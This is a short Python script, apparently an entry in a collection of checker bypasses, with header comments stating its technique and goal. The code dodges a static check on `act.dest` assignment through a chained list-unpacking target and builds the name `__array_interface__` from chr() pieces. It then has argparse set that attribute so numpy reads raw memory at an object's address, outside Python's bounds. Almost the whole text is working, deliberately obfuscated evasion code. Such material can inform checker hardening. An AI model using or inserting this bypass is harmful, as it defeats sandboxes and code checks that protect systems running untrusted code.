# source: https://docs.python.org/3/library/argparse.html#dest (parse_args sets the attribute named by an Action's dest); numpy array interface protocol, https://numpy.org/doc/stable/reference/arrays.interface.html; chained targets missed by static checkers: https://github.com/unslothai/unsloth/pull/9777
# family: an argparse Action's dest assigned through a list unpacking target of a chained assignment (the check refuses act.dest = ...): parse_args() then setattr()s the run-time name __array_interface__
# goal: an ndarray over any address (a Python object's header): read process memory outside what Python bounds
import argparse
import numpy as np


class Box:
    pass


box = Box()
addr = int(repr(box).split(" at ")[1].rstrip(">"), 16)
u2 = chr(95) * 2
key = u2 + "array" + chr(95) + "interface" + u2
p = argparse.ArgumentParser()
act = p.add_argument("--spec", type=lambda s: {"data": (addr, False), "shape": (16,), "typestr": "|u1", "version": 3})
y = [act.dest] = [key]
ns = p.parse_args(["--spec", "x"])
print("object header bytes:", np.asarray(ns).tolist())
